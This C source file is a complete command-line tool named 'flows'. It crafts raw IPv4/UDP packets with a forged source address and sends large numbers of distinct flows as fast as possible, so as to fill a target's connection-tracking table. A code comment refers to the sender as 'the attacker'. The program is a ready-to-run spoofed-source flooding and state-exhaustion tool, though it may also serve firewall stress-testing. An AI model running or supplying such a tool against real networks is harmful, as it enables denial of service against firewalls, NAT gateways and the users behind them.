/* flows SOURCE DESTINATION COUNT [answers]: sends an empty UDP datagram of each of COUNT flows, as fast as
 * it can, from SOURCE to DESTINATION, whatever the machine's own address is; with `answers`, the datagrams of
 * the other direction, from DESTINATION to SOURCE. A machine that tracks connections has an entry for each
 * flow. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

/* Ports of the attacker, and the first of those at the other end. */
enum { OWN_PORTS = 64000, FIRST_OWN = 1024, FIRST_OTHER = 10000 };

static int resolve(const char *text, in_addr_t *address)
{
	struct in_addr read;
	if (inet_pton(AF_INET, text, &read) != 1) {
		fprintf(stderr, "flows: %s is no IPv4 address\n", text);
		return -1;
	}
	*address = read.s_addr;
	return 0;
}

int main(int argc, char **argv)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
	} datagram = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP}};
	in_addr_t source, destination;
	if (argc < 4 || argc > 5) {
		fprintf(stderr, "flows SOURCE DESTINATION COUNT [answers]\n");
		return 2;
	}
	if (resolve(argv[1], &source) || resolve(argv[2], &destination))
		return 2;
	int are_answers = argc == 5, raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0) {
		fprintf(stderr, "flows: no raw socket: %s\n", strerror(errno));
		return 2;
	}
	datagram.ip.saddr = are_answers ? destination : source;
	datagram.ip.daddr = are_answers ? source : destination;
	datagram.udp.len = htons(sizeof datagram.udp);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = datagram.ip.daddr};
	unsigned long count = strtoul(argv[3], NULL, 10), refused = 0;
	for (unsigned long flow = 0; flow < count; flow++) {
		in_port_t own = htons((unsigned short)(FIRST_OWN + flow % OWN_PORTS));
		in_port_t other = htons((unsigned short)(FIRST_OTHER + flow / OWN_PORTS));
		datagram.udp.source = are_answers ? other : own;
		datagram.udp.dest = are_answers ? own : other;
		if (sendto(raw, &datagram, sizeof datagram, 0, (struct sockaddr *)&to, sizeof to) < 0)
			refused++;
	}
	printf("sent %lu refused %lu\n", count - refused, refused);
	return refused < count ? 0 : 1;
}
